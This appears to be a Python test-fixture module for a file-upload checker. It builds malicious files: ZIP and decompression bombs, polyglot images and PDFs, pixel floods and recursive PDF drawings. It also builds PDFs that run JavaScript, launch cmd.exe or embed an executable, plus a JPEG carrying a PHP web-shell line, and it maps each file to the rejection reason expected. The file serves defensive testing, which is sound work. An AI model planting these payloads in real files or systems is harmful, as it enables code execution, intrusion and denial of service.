"""Files that mean no good, made when a test needs them: what each is, and why it is refused (None: it is taken, and harmless
then)."""

from __future__ import annotations

import hashlib
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import NamedTuple

from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4
from cryptography.hazmat.primitives.ciphers import Cipher
from PIL import Image

from core.papers import Trouble
from tests.drawn import drawn, pdf, photograph, written

_PADDING = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


class Hostile(NamedTuple):
    """A file, and what is said of it."""

    make: Callable[[], bytes]
    refused: Trouble | None


def raw_pdf(*objects: bytes, root: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF of one page, object by object: 1 is the catalogue, with what is in `root`; 2 all pages, 3 the page; `objects` begin
    with 4."""
    made, at = bytearray(b"%PDF-1.7\n"), []
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    parts = (b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, *objects)
    for number, part in enumerate(parts, 1):
        at.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + b"".join(b"%010d 00000 n \n" % place for place in at)
    return bytes(made + b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, trailer, start))


def stream(data: bytes, head: bytes = b"") -> bytes:
    """An object that is a stream."""
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (head, len(data), data)


def flat(data: bytes, head: bytes = b"", times: int = 1) -> bytes:
    """A stream that is packed so often."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, head + b" /Filter [" + b"/FlateDecode " * times + b"]")


def zipped(name: str = "word/document.xml", size: int = 100) -> bytes:
    """An archive with something in it."""
    into = BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"0" * size)
    return into.getvalue()


def png(width: int, height: int, packed: bytes, *chunks: tuple[bytes, bytes], depth: int = 8, kind: int = 2) -> bytes:
    """A PNG that says it has this size, whatever its pixels are."""
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0))
    return (b"\x89PNG\r\n\x1a\n" + head + b"".join(chunk(*one) for one in chunks) + chunk(b"IDAT", packed) + chunk(b"IEND", b""))


def zeros(size: int) -> bytes:
    """So many zeros, packed without ever being there."""
    packer, made, block = zlib.compressobj(9), [], bytes(1 << 20)
    for start in range(0, size, len(block)):
        made.append(packer.compress(block[:min(len(block), size - start)]))
    return b"".join((*made, packer.flush()))


def huge_jpeg() -> bytes:
    """A JPEG that says it has 65 500 pixels on each side."""
    made = bytearray(photograph())
    at = made.find(b"\xff\xc0") + 5
    made[at:at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(made)


def many_scans(times: int = 60_000, side: int = 6_000) -> bytes:
    """A progressive JPEG with one of its scans over and over: each is a round through the whole picture."""
    made = written(Image.new("RGB", (side, side)), progressive=True)
    last = made.rfind(b"\xff\xda")
    return made[:last] + made[last:-2] * times + made[-2:]


def locked_pdf() -> bytes:
    """A PDF that only a password opens (ISO 32000-1, 7.6, algorithms 2 to 4; 40 bits)."""
    def rc4(key: bytes, data: bytes) -> bytes:
        return Cipher(ARC4(key), None).encryptor().update(data)

    def padded(password: bytes) -> bytes:
        return (password + _PADDING)[:32]

    mark = b"0123456789abcdef"
    owner = rc4(hashlib.md5(padded(b"owner")).digest()[:5], padded(b"user"))
    key = hashlib.md5(padded(b"user") + owner + struct.pack("<i", -4) + mark).digest()[:5]
    user = rc4(key, _PADDING)
    locks = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%b> /U <%b> /P -4 >> /ID [<%b> <%b>]" % (
        owner.hex().encode(), user.hex().encode(), mark.hex().encode(), mark.hex().encode())
    return raw_pdf(stream(b""), trailer=locks)


def _in_object_stream() -> bytes:
    inside = b"10 0 << /S /JavaScript /JS (app.alert(1)) >> "
    return raw_pdf(stream(b""), flat(inside, b"/Type /ObjStm /N 1 /First 5"), root=b"/OpenAction 10 0 R")


def _loop_of_pages() -> bytes:
    return raw_pdf(stream(b"")).replace(b"/Kids [3 0 R] /Count 1", b"/Kids [2 0 R] /Count 9")


def _loop_of_forms() -> bytes:
    form = stream(b"/X Do " * 50, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")
    return raw_pdf(stream(b"/X Do"), form)


def _tree_of_forms(depth: int = 12) -> bytes:
    """Forms that draw ten others each, down to the last: a million million rectangles."""
    forms = [stream(b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
                    % (number + 1)) for number in range(5, 5 + depth)]
    last = stream(b"0 0 595 842 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    return raw_pdf(stream(b"/X Do"), *forms, last)


def _picture_of(width: int, height: int, data: bytes) -> bytes:
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8" % (width, height)
    return raw_pdf(stream(b"595 0 0 842 0 0 cm /X Do"), stream(data, head + b" /Filter /FlateDecode"))


FILES: dict[str, Hostile] = {
    # another kind than any that is taken, whatever it is called
    "a ZIP": Hostile(zipped, Trouble.KIND),
    "a ZIP bomb": Hostile(lambda: zipped("bomb", 1 << 28), Trouble.KIND),
    "a page for a browser": Hostile(lambda: b"<!doctype html><script>alert(1)</script>", Trouble.KIND),
    "an SVG": Hostile(lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Trouble.KIND),
    "a program": Hostile(lambda: b"\x7fELF" + bytes(900), Trouble.KIND),
    "a GIF": Hostile(lambda: written(drawn((100, 100)), "GIF"), Trouble.KIND),
    "a TIFF": Hostile(lambda: written(drawn((100, 100)), "TIFF"), Trouble.KIND),
    "a WebP": Hostile(lambda: written(drawn((100, 100)), "WEBP"), Trouble.KIND),
    "a PostScript program": Hostile(lambda: b"%!PS-Adobe-3.0\n{} loop\n", Trouble.KIND),
    "a film": Hostile(lambda: b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + bytes(2000), Trouble.KIND),
    "a GIF that is a PDF": Hostile(lambda: b"GIF89a" + pdf(), Trouble.KIND),
    "a ZIP that is a PDF": Hostile(lambda: zipped() + pdf(), Trouble.KIND),
    "a text before a PDF": Hostile(lambda: b"\n" * 500 + pdf(), Trouble.KIND),
    "nothing": Hostile(bytes, Trouble.EMPTY),
    # two things at once
    "a JPEG that is a ZIP": Hostile(lambda: photograph() + zipped(), Trouble.DOUBLE),
    "a PDF that is a ZIP": Hostile(lambda: pdf() + zipped(), Trouble.DOUBLE),
    "a PNG that is a ZIP": Hostile(lambda: photograph("PNG") + zipped(), Trouble.DOUBLE),
    "a JPEG that is a PDF": Hostile(lambda: photograph(comment=b"x\n%PDF-1.7\n"), Trouble.DOUBLE),
    "a JPEG that is a page for a browser": Hostile(lambda: photograph(comment=b"<ScRipt>alert(1)</script>"), Trouble.DOUBLE),
    "a JPEG that is a program for a server": Hostile(lambda: photograph(comment=b"<?php system($_GET[0]); ?>"), Trouble.DOUBLE),
    "a PDF that is a page for a browser": Hostile(
        lambda: b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf()[9:], Trouble.DOUBLE),
    # far more pixels than bytes
    "a PNG of 30 000 x 30 000": Hostile(lambda: png(30_000, 30_000, zeros(30_000 * 3_751), depth=1, kind=0), Trouble.PIXELS),
    "a PNG of two thousand million pixels": Hostile(lambda: png(2**31 - 1, 1, zeros(1000)), Trouble.PIXELS),
    "a PNG one pixel high": Hostile(lambda: png(40_000, 1, zeros(120_001)), Trouble.PIXELS),
    "a JPEG of 65 500 x 65 500": Hostile(huge_jpeg, Trouble.PIXELS),
    "a PNG of as many pixels as there may be": Hostile(lambda: png(7_000, 7_000, zeros(7_000 * 28_001), kind=6), None),
    "a PNG with more pixels than it says": Hostile(lambda: png(100, 100, zeros(1 << 29)), None),
    "a PNG with a text of a gigabyte": Hostile(
        lambda: png(100, 100, zeros(30_100), (b"zTXt", b"a\0\0" + zeros(1 << 30))), Trouble.DAMAGED),
    "a PNG with a profile of a gigabyte": Hostile(
        lambda: png(100, 100, zeros(30_100), (b"iCCP", b"a\0\0" + zeros(1 << 30))), Trouble.DAMAGED),
    # PDFs that do something
    "a PDF with a script when it opens": Hostile(lambda: raw_pdf(
        stream(b""), root=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), Trouble.ACTIVE),
    "a PDF with a script by name": Hostile(lambda: raw_pdf(
        stream(b""), root=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"), Trouble.ACTIVE),
    "a PDF with a script in disguise": Hostile(lambda: raw_pdf(
        stream(b""), root=b"/OpenAction << /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"), Trouble.ACTIVE),
    "a PDF with a packed script": Hostile(_in_object_stream, Trouble.ACTIVE),
    "a PDF that starts a program": Hostile(lambda: raw_pdf(
        stream(b""), root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), Trouble.ACTIVE),
    "a PDF with a file in it": Hostile(lambda: raw_pdf(
        stream(b""), stream(b"MZ", b"/Type /EmbeddedFile"),
        root=b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"),
        Trouble.ACTIVE),
    "a PDF that sends a form": Hostile(lambda: raw_pdf(
        stream(b""), root=b"/OpenAction << /S /SubmitForm /F (https://x.example/) >>"), Trouble.ACTIVE),
    "a PDF with a password": Hostile(locked_pdf, Trouble.LOCKED),
    # PDFs without an end
    "a PDF of 10 000 pages": Hostile(lambda: raw_pdf(stream(b"")).replace(
        b"/Kids [3 0 R] /Count 1", b"/Kids [" + b"3 0 R " * 10_000 + b"] /Count 10000"), Trouble.PAGES),
    "a PDF whose pages are in a circle": Hostile(_loop_of_pages, Trouble.DAMAGED),
    "a PDF whose drawing is in a circle": Hostile(_loop_of_forms, Trouble.HEAVY),
    "a PDF whose drawing has a million million parts": Hostile(_tree_of_forms, Trouble.HEAVY),
    "a PDF with a gigabyte of drawing": Hostile(lambda: raw_pdf(stream(zeros(1 << 30), b"/Filter /FlateDecode")), Trouble.HEAVY),
    "a PDF packed three times": Hostile(lambda: raw_pdf(flat(zeros(1 << 28), times=2)), None),
    "a PDF with a picture of a gigapixel": Hostile(lambda: _picture_of(32_000, 32_000, zeros(32_000 * 32_000)), None),
    "a PDF with a picture of a terapixel": Hostile(lambda: _picture_of(1_000_000, 1_000_000, zeros(1 << 20)), None),
    "a PDF of a page as large as a town": Hostile(lambda: pdf(1, (1e9, 1e9)), None),
    "a PDF of a page that is a line": Hostile(lambda: pdf(1, (14_400, 0.001)), None),
    "a JPEG of 60 000 rounds": Hostile(many_scans, Trouble.HEAVY),
    # what was cut, or is not what it begins like
    "a JPEG cut short": Hostile(lambda: photograph()[:20_000], Trouble.DAMAGED),
    "a PNG cut short": Hostile(lambda: photograph("PNG")[:9_000], Trouble.DAMAGED),
    "a HEIC cut short": Hostile(lambda: photograph("HEIF")[:9_000], Trouble.DAMAGED),
    "a PDF cut short": Hostile(lambda: pdf(3)[:300], Trouble.DAMAGED),
    "a beginning of a JPEG": Hostile(lambda: b"\xff\xd8\xff\xe0" + bytes(500), Trouble.DAMAGED),
    "a beginning of a PDF": Hostile(lambda: b"%PDF-1.7\n", Trouble.DAMAGED),
    "a beginning of a HEIC": Hostile(lambda: b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(500), Trouble.DAMAGED),
}
